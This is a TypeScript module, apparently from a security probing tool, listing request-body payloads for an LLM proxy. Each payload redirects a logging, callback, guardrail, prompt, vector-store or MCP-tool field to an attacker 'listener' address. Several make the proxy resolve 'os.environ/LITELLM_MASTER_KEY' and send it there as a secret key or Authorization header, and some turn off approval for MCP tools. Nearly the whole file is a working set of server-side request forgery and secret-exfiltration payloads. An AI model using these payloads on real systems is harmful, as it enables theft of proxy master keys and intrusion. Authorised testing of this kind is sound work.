import type { Piece } from "./address-fields.ts";

/** Where logs, prompts, guardrails and stores are looked for. */
export const services: readonly Piece[] = [
  {
    name: "langfuse_host",
    of: ({ listener }) => ({
      langfuse_host: listener,
      langfuse_public_key: "x",
      langfuse_secret_key: "x",
      success_callback: ["langfuse"],
    }),
  },
  {
    name: "langsmith_base_url",
    of: ({ listener }) => ({
      langsmith_base_url: listener,
      langsmith_api_key: "x",
      callbacks: ["langsmith"],
    }),
  },
  {
    name: "callbacks in metadata",
    of: ({ listener }) => ({
      metadata: {
        logging: [
          {
            callback_name: "langfuse",
            callback_type: "success",
            callback_vars: {
              langfuse_host: listener,
              langfuse_public_key: "x",
              langfuse_secret_key: "os.environ/LITELLM_MASTER_KEY",
            },
          },
        ],
      },
    }),
  },
  {
    name: "guardrails of the client's own",
    of: ({ listener }) => ({
      guardrails: [{ attack: { extra_body: { api_base: listener } } }],
      guardrail_config: { api_base: listener },
    }),
  },
  {
    name: "prompt_id",
    of: ({ listener, mark }) => ({
      prompt_id: mark,
      prompt_variables: { x: "os.environ/LITELLM_MASTER_KEY" },
      langfuse_host: listener,
    }),
  },
  {
    name: "vector_store_ids",
    of: ({ listener, mark }) => ({
      vector_store_ids: [mark],
      tools: [{ type: "file_search", vector_store_ids: [mark], api_base: listener }],
    }),
  },
  {
    name: "mcp_servers",
    of: ({ listener }) => ({ mcp_servers: [{ type: "url", url: listener, name: "attack" }] }),
  },
  {
    name: "a tool of type mcp with a server of the client's own",
    of: ({ listener }) => ({
      tools: [
        {
          type: "mcp",
          server_label: "attack",
          server_url: listener,
          require_approval: "never",
          headers: { Authorization: "os.environ/LITELLM_MASTER_KEY" },
        },
      ],
    }),
  },
  {
    name: "tools of other types with addresses",
    of: ({ listener }) => ({
      tools: [
        { type: "MCP", server_url: listener, server_label: "attack", require_approval: "never" },
        { type: "url_context", url: listener },
        { type: "web_search_preview", search_context_size: "low", api_base: listener },
        { type: "computer_use_preview", environment: listener },
      ],
    }),
  },
];
